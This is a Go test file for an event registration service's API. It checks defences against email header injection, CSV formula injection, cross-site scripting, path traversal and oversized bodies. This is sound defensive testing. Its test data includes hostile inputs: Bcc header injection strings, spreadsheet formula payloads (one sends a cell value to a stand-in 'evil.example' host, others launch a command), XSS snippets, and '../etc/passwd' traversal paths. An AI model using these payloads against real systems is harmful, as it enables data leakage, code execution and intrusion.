package api

// Hostile input, each kind with a test: email header injection, CSV formula
// injection, cross-site scripting in JSON, pages and emails, path tricks in
// slugs and tokens, oversized bodies. (Oversized headers and slow clients are
// the http.Server's business: cmd/eventreg/hostile_test.go.)

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http/httptest"
	netmail "net/mail"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"eventreg/mail"
	"eventreg/registration"
)

const (
	xssScript = `<script>alert(1)</script>`
	xssImg    = `"><img src=x onerror=alert(1)>`
)

// mailsOf builds every queued email of an event as it would be sent.
func mailsOf(t *testing.T, env *apiEnv, slug string) []mail.Message {
	t.Helper()
	ctx := context.Background()
	e, err := env.svc.Event(ctx, slug)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := env.svc.Store().Messages(ctx, registration.MessageFilter{EventID: e.ID, Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	var out []mail.Message
	for _, row := range rows {
		r, err := env.svc.Store().RegistrationByID(ctx, row.RegistrationID)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, env.svc.MailMessage(e, r, row))
	}
	if len(out) == 0 {
		t.Fatalf("no mail queued for %s", slug)
	}
	return out
}

// rawMail is the message as it goes over SMTP.
func rawMail(t *testing.T, m mail.Message) []byte {
	t.Helper()
	msg, err := mail.Build(m)
	if err != nil {
		t.Fatalf("build %s: %v", m.Kind, err)
	}
	var buf bytes.Buffer
	if _, err := msg.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

var sentHeaders = []string{"Auto-Submitted", "Date", "Mime-Version", "Message-Id", "Subject", "List-Unsubscribe",
	"List-Unsubscribe-Post", "From", "To", "Content-Type"}

// checkHeaders reads a raw message with net/mail: only the headers Build
// writes, each once, and one recipient, the registrant.
func checkHeaders(t *testing.T, raw []byte, to string) {
	t.Helper()
	msg, err := netmail.ReadMessage(bytes.NewReader(raw))
	if err != nil {
		t.Fatalf("read message: %v\n%s", err, raw)
	}
	for k, vs := range msg.Header {
		if !slices.Contains(sentHeaders, k) || len(vs) != 1 {
			t.Errorf("header %s %q injected:\n%s", k, vs, raw)
		}
	}
	for _, k := range []string{"Bcc", "Cc", "Reply-To"} {
		if msg.Header.Get(k) != "" {
			t.Errorf("%s header: %q", k, msg.Header.Get(k))
		}
	}
	list, err := msg.Header.AddressList("To")
	if err != nil || len(list) != 1 || list[0].Address != to {
		t.Errorf("To %v (%v), want only %s", list, err, to)
	}
}

func TestHostileHeaderInjection(t *testing.T) {
	env := newAPIEnv(t, Config{})
	env.createEvent(`{"slug":"h","kind":"webinar","title":"Webinar, Bcc: evil@example.com; Cc: x","organizer":"Org <evil@example.com>","starts_at":"2026-02-01T10:00:00Z","state":"published"}`)
	signup := "/api/v1/events/h/registrations"

	// CR, LF and their Unicode cousins are refused in every one-line field.
	for _, nl := range []string{"\r\n", "\n", "\r", "\u2028", "\u0085", "\x00"} {
		for _, field := range []string{"name", "email", "company", "job_title", "phone"} {
			in := map[string]string{"name": "Eve", "email": "eve@example.com"}
			in[field] = "eve@example.com" + nl + "Bcc: evil@example.com"
			b, _ := json.Marshal(in)
			m := wantProblem(t, env.do("POST", signup, string(b)), 422, "validation_failed")
			if errs, _ := m["errors"].([]any); len(errs) == 0 || !slices.ContainsFunc(errs, func(e any) bool { return e.(map[string]any)["field"] == field }) {
				t.Errorf("%s with %q: errors %v", field, nl, m["errors"])
			}
		}
	}
	// Addresses that would become several recipients or a display name.
	for _, email := range []string{"a@example.com, evil@example.com", "a@example.com;evil@example.com", "Eve <evil@example.com>",
		`"evil@example.com" <a@example.com>`, "a@example.com\tevil@example.com", "a@example.com%0d%0aBcc:evil@example.com"} {
		b, _ := json.Marshal(map[string]string{"name": "Eve", "email": email})
		wantProblem(t, env.do("POST", signup, string(b)), 422, "validation_failed")
	}

	// What is accepted (commas, quotes, encoded words, line breaks in the
	// question) goes out with no header of its own.
	for i, name := range []string{`O'Brien, Jane "JD"`, "=?UTF-8?Q?Eve=0D=0ABcc:_evil@example.com?=", "Bcc: evil@example.com", "王小明 <evil@example.com>"} {
		b, _ := json.Marshal(map[string]string{"name": name, "email": fmt.Sprintf("p%d@example.com", i),
			"question": "Hello\r\nBcc: evil@example.com\r\n\r\nbody"})
		if r := env.do("POST", signup, string(b)); r.code != 201 {
			t.Fatalf("%q: %d %s", name, r.code, r.body)
		}
	}
	// An encoded word is plain atext in a local part; it stays an address.
	if r := env.do("POST", signup, `{"name":"Enc","email":"=?UTF-8?B?ZXZpbEBleGFtcGxlLmNvbQ==?=@example.com"}`); r.code != 201 {
		t.Fatalf("encoded-word local part: %d %s", r.code, r.body)
	}
	for _, m := range mailsOf(t, env, "h") {
		checkHeaders(t, rawMail(t, m), m.To)
	}

	// Build itself, handed hostile values that never passed validation.
	m := mailsOf(t, env, "h")[0]
	m.ToName = "Ann\r\nBcc: evil@example.com"
	m.Event.Title = "Webinar\r\nBcc: evil@example.com"
	m.Event.Organizer = "Org\r\nCc: evil@example.com"
	m.Event.Location = "Hall\nReply-To: evil@example.com"
	for _, kind := range mail.Kinds {
		m.Kind = kind
		m.Links.Unsubscribe = ""
		if !kind.Transactional() {
			m.Links.Unsubscribe = "http://example.test/u/tok"
		}
		raw := rawMail(t, m)
		head, _, _ := bytes.Cut(raw, []byte("\r\n\r\n"))
		for _, line := range strings.Split(string(head), "\r\n") {
			if l := strings.ToLower(line); strings.HasPrefix(l, "bcc:") || strings.HasPrefix(l, "cc:") || strings.HasPrefix(l, "reply-to:") {
				t.Errorf("%s: injected header line %q", kind, line)
			}
		}
		checkHeaders(t, raw, m.To)
	}
}

func TestHostileCSVFormulas(t *testing.T) {
	env := newAPIEnv(t, Config{})
	env.createEvent(`{"slug":"csv","kind":"webinar","title":"CSV","state":"published"}`)
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, `=1+1`, "=\t1", `+86 21 5555 0100`}
	for i, f := range formulas {
		in := map[string]any{"name": f, "email": fmt.Sprintf("f%d@example.com", i), "company": f, "job_title": "-" + f[1:],
			"question": f + " and more text"}
		if !strings.ContainsAny(f, "\t") {
			in["job_title"] = "@" + f[1:]
		}
		if i == len(formulas)-1 {
			in["phone"] = f
		}
		b, _ := json.Marshal(in)
		if r := env.do("POST", "/api/v1/events/csv/registrations", string(b)); r.code != 201 {
			// A tab inside a one-line field is refused; that is fine too.
			if r.code != 422 {
				t.Fatalf("%q: %d %s", f, r.code, r.body)
			}
		}
	}
	c := env.admin("GET", "/api/v1/admin/events/csv/registrations.csv", "")
	if c.code != 200 || !bytes.HasPrefix(c.body, []byte("\ufeff")) {
		t.Fatalf("csv %d %q", c.code, c.body)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) < len(formulas) {
		t.Fatalf("%d rows for %d sign-ups", len(recs)-1, len(formulas))
	}
	stored := map[string]bool{}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: %q can run as a formula", recs[0][i], cell)
			}
		}
		stored[rec[2]] = true
	}
	for _, f := range formulas[:len(formulas)-2] {
		if !stored["'"+f] {
			t.Errorf("name %q not exported as '%s (have %v)", f, f, stored)
		}
	}
}

// noRawPayload fails when body holds either payload as it was typed.
func noRawPayload(t *testing.T, what string, body []byte) {
	t.Helper()
	for _, p := range []string{xssScript, xssImg, "<script", "<img"} {
		if bytes.Contains(bytes.ToLower(body), []byte(p)) {
			t.Errorf("%s holds %q unescaped", what, p)
		}
	}
}

func TestHostileXSS(t *testing.T) {
	env := newAPIEnv(t, Config{})
	ev, _ := json.Marshal(map[string]any{"slug": "x", "kind": "webinar", "title": xssScript + " " + xssImg,
		"organizer": xssImg, "summary": xssScript, "description": xssScript + "\n\n" + xssImg, "location": xssImg,
		"starts_at": "2026-02-01T10:00:00Z", "capacity": 10, "state": "published"})
	env.createEvent(string(ev))
	b, _ := json.Marshal(map[string]any{"name": xssScript, "email": "xss@example.com", "company": xssImg,
		"job_title": xssScript, "question": xssImg + "\n" + xssScript})
	r := env.do("POST", "/api/v1/events/x/registrations", string(b))
	if r.code != 201 {
		t.Fatalf("%d %s", r.code, r.body)
	}
	token := strings.TrimPrefix(r.json(t)["manage_url"].(string), "http://example.test/r/")

	// JSON: encoded so that no browser sniffing it as HTML runs anything.
	for _, path := range []string{"/api/v1/events", "/api/v1/events/x", "/api/v1/registrations/" + token,
		"/api/v1/events?kind=" + url.QueryEscape(xssScript), "/api/v1/events/" + url.PathEscape(xssImg)} {
		r := env.do("GET", path, "")
		noRawPayload(t, path, r.body)
		if r.h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(r.h.Get("Content-Type"), "json") {
			t.Errorf("%s: %q %q", path, r.h.Get("Content-Type"), r.h.Get("X-Content-Type-Options"))
		}
	}
	for _, path := range []string{"/api/v1/admin/events", "/api/v1/admin/events/x", "/api/v1/admin/events/x/registrations",
		"/api/v1/admin/events/x/registrations?q=" + url.QueryEscape(xssScript), "/api/v1/admin/events/x/emails"} {
		noRawPayload(t, path, env.admin("GET", path, "").body)
	}
	// The round trip keeps the text as typed.
	if own := env.do("GET", "/api/v1/registrations/"+token, "").json(t); own["name"] != xssScript || own["event"].(map[string]any)["organizer"] != xssImg {
		t.Errorf("own view %v", own)
	}

	// Emails: the HTML part escapes, the text part is plain text.
	for _, m := range mailsOf(t, env, "x") {
		rendered, err := mail.Render(m)
		if err != nil {
			t.Fatal(err)
		}
		noRawPayload(t, string(m.Kind)+" email", []byte(rendered.HTML))
		if bad := injectedEmailMarkup(rendered.HTML); bad != "" {
			t.Errorf("%s email holds %s", m.Kind, bad)
		}
	}

	// Pages, when this build has them: the events box, the event page, the
	// registrant's page, and the form sent back with its errors.
	if r := env.do("GET", "/", ""); !strings.HasPrefix(r.h.Get("Content-Type"), "text/html") {
		t.Logf("no pages in this build (GET / answers %d %q)", r.code, r.h.Get("Content-Type"))
		return
	}
	cookie, csrf := (&fuzzServer{srv: env.srv}).csrfPair()
	form := url.Values{"name": {xssScript}, "email": {xssImg}, "company": {xssImg}, "job_title": {xssScript},
		"phone": {xssImg}, "question": {"</textarea>" + xssScript}}
	pages := map[string]resp{
		"GET /":                 env.do("GET", "/", ""),
		"GET /?lang=zh-Hant":    env.do("GET", "/?lang=zh-Hant", ""),
		"GET /events/x":         env.do("GET", "/events/x", ""),
		"GET /r/{token}":        env.do("GET", "/r/"+token, ""),
		"GET /events/{payload}": env.do("GET", "/events/"+url.PathEscape(xssScript), ""),
		"POST /events/x/register": env.do("POST", "/events/x/register", form.Encode(),
			"Content-Type", "application/x-www-form-urlencoded", "Cookie", cookie, "X-CSRF-Token", csrf),
	}
	for what, r := range pages {
		if r.code >= 500 {
			t.Errorf("%s: %d", what, r.code)
		}
		noRawPayload(t, what, r.body)
		if bad := injectedMarkup(r.body); bad != "" {
			t.Errorf("%s holds %s", what, bad)
		}
	}
	if r := pages["POST /events/x/register"]; r.code != 422 || !bytes.Contains(r.body, []byte("&lt;script&gt;")) {
		t.Errorf("the refused form is not shown back, escaped: %d", r.code)
	}
	for _, what := range []string{"GET /events/x", "GET /r/{token}"} {
		if !bytes.Contains(pages[what].body, []byte("&lt;script&gt;alert(1)&lt;/script&gt;")) {
			t.Errorf("%s does not show the title, escaped", what)
		}
	}
}

// injectedEmailMarkup tokenizes an email's HTML as a mail client would and
// names the first element that runs or loads something, or an event
// handler attribute; the templates have none.
func injectedEmailMarkup(s string) string {
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			name, more := z.TagName()
			if slices.Contains([]string{"script", "img", "iframe", "svg", "object", "embed", "form"}, string(name)) {
				return "element <" + string(name) + ">"
			}
			for more {
				var key []byte
				key, _, more = z.TagAttr()
				if bytes.HasPrefix(key, []byte("on")) {
					return "attribute " + string(key)
				}
			}
		}
	}
}

func TestHostilePaths(t *testing.T) {
	env := newAPIEnv(t, Config{})
	env.createEvent(`{"slug":"p","kind":"webinar","title":"P","starts_at":"2026-02-01T10:00:00Z","state":"published"}`)
	r := env.do("POST", "/api/v1/events/p/registrations", `{"name":"P","email":"p@example.com"}`)
	token := strings.TrimPrefix(r.json(t)["manage_url"].(string), "http://example.test/r/")
	long := strings.Repeat("A", 10000)
	uni := strings.Repeat("é", 16) // 32 bytes, like a token
	tokenPaths := []string{"%00", "..%2f..%2fetc%2fpasswd", long, url.PathEscape(uni), url.PathEscape("活動"), token + "x",
		token[:31], token + "%00", strings.ToUpper(token), "%2e%2e", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "%ff%fe"}
	var paths []string
	for _, p := range []string{"..%2f..%2fetc%2fpasswd", "..", "%2e%2e%2f%2e%2e", "%00", "p%00", "p%0d%0aX-Injected:%201",
		url.PathEscape("活動"), url.PathEscape("ｐ"), long, "P", "-p", "p.json", "%ff"} {
		paths = append(paths, "/api/v1/events/"+p, "/api/v1/admin/events/"+p, "/api/v1/admin/events/"+p+"/registrations")
	}
	for _, tok := range tokenPaths {
		paths = append(paths, "/api/v1/registrations/"+tok, "/api/v1/registrations/"+tok+"/calendar.ics")
	}
	for _, id := range []string{"0", "-1", "99999999999999999999", "1e3", "0x1", "%00", "１"} {
		paths = append(paths, "/api/v1/admin/events/p/registrations/"+id+"/check-in")
	}
	for _, p := range paths {
		method := "GET"
		if strings.HasSuffix(p, "/check-in") {
			method = "POST"
		}
		r := env.admin(method, p, "")
		if r.code != 404 {
			t.Errorf("%s %s: %d, want 404: %.200s", method, p, r.code, r.body)
			continue
		}
		wantProblem(t, r, 404, r.json(t)["code"].(string))
		if len(r.body) > 2000 || bytes.Contains(r.body, []byte(long[:100])) {
			t.Errorf("%s: the 404 echoes the path", p)
		}
		if r.h.Get("X-Injected") != "" {
			t.Errorf("%s: header injected", p)
		}
	}
	for _, tok := range tokenPaths {
		for _, p := range []string{"/api/v1/registrations/" + tok + "/cancel", "/api/v1/registrations/" + tok + "/unsubscribe"} {
			if r := env.do("POST", p, ""); r.code != 404 {
				t.Errorf("POST %s: %d", p, r.code)
			}
		}
	}
	// The real token still works: the tricks above changed nothing.
	if r := env.do("GET", "/api/v1/registrations/"+token, ""); r.code != 200 || r.json(t)["status"] != "confirmed" {
		t.Errorf("own view after the tricks: %d %s", r.code, r.body)
	}

	// Pages, when this build has them: not found, never a 5xx, never a file.
	if r := env.do("GET", "/", ""); !strings.HasPrefix(r.h.Get("Content-Type"), "text/html") {
		return
	}
	for _, p := range []string{"/events/..%2f..%2fetc%2fpasswd", "/events/%00", "/events/" + long, "/r/%00", "/r/" + long,
		"/r/" + url.PathEscape(uni), "/j/%00", "/j/" + long, "/u/..%2f..%2fetc%2fpasswd", "/static/..%2f..%2fgo.mod",
		"/static/../../go.mod", "/static/%2e%2e/%2e%2e/go.mod", "/static/" + long} {
		r := env.do("GET", p, "")
		if r.code != 404 && r.code != 301 && r.code != 308 {
			t.Errorf("GET %s: %d, want 404", p, r.code)
		}
		if bytes.Contains(r.body, []byte("module eventreg")) || bytes.Contains(r.body, []byte("root:")) {
			t.Errorf("GET %s serves a file", p)
		}
	}
}

func TestHostileBodies(t *testing.T) {
	env := newAPIEnv(t, Config{})
	env.createEvent(`{"slug":"b","kind":"webinar","title":"B","state":"published"}`)
	big := `{"name":"` + strings.Repeat("x", 70<<10) + `","email":"a@example.com"}`
	for _, c := range []struct {
		method, path string
		reads        bool // the handler reads the body
	}{
		{"POST", "/api/v1/events/b/registrations", true}, {"POST", "/api/v1/admin/events", true}, {"PATCH", "/api/v1/admin/events/b", true},
		{"POST", "/api/v1/admin/events/b/registrations/1/check-in", true}, {"POST", "/api/v1/admin/events/b/emails/retry", true},
		{"POST", "/api/v1/admin/events/b/cancel", false}, {"POST", "/api/v1/registrations/" + strings.Repeat("A", 32) + "/cancel", false},
	} {
		wantProblem(t, env.admin(c.method, c.path, big), 413, "body_too_large")
		if !c.reads {
			continue
		}
		// Without a Content-Length, the body is cut at the limit.
		req := httptest.NewRequest(c.method, c.path, io.MultiReader(strings.NewReader(big)))
		req.ContentLength = -1
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+adminToken)
		w := httptest.NewRecorder()
		env.srv.ServeHTTP(w, req)
		if w.Code != 413 {
			t.Errorf("%s %s chunked: %d %s", c.method, c.path, w.Code, w.Body)
		}
	}
	// Deep nesting and a huge number are refused as JSON, not a crash.
	for _, body := range []string{strings.Repeat("[", 20000) + strings.Repeat("]", 20000), `{"name":` + strings.Repeat("9", 30000) + `}`,
		`{"name":"x","email":"a@example.com","consent":` + strings.Repeat("{\"a\":", 5000) + "1" + strings.Repeat("}", 5000) + `}`} {
		r := env.do("POST", "/api/v1/events/b/registrations", body)
		if r.code != 400 && r.code != 422 {
			t.Errorf("%.40s…: %d %s", body, r.code, r.body)
		}
	}
	// The sign-up form is limited the same way.
	if r := env.do("GET", "/", ""); strings.HasPrefix(r.h.Get("Content-Type"), "text/html") {
		cookie, csrf := (&fuzzServer{srv: env.srv}).csrfPair()
		form := "name=" + strings.Repeat("x", 70<<10) + "&email=a%40example.com"
		r := env.do("POST", "/events/b/register", form, "Content-Type", "application/x-www-form-urlencoded", "Cookie", cookie, "X-CSRF-Token", csrf)
		if r.code != 413 {
			t.Errorf("big form: %d", r.code)
		}
	}
	// Nothing of the above was stored.
	if regs := env.admin("GET", "/api/v1/admin/events/b/registrations", "").json(t); regs["total"].(float64) != 0 {
		t.Errorf("stored %v", regs)
	}
}
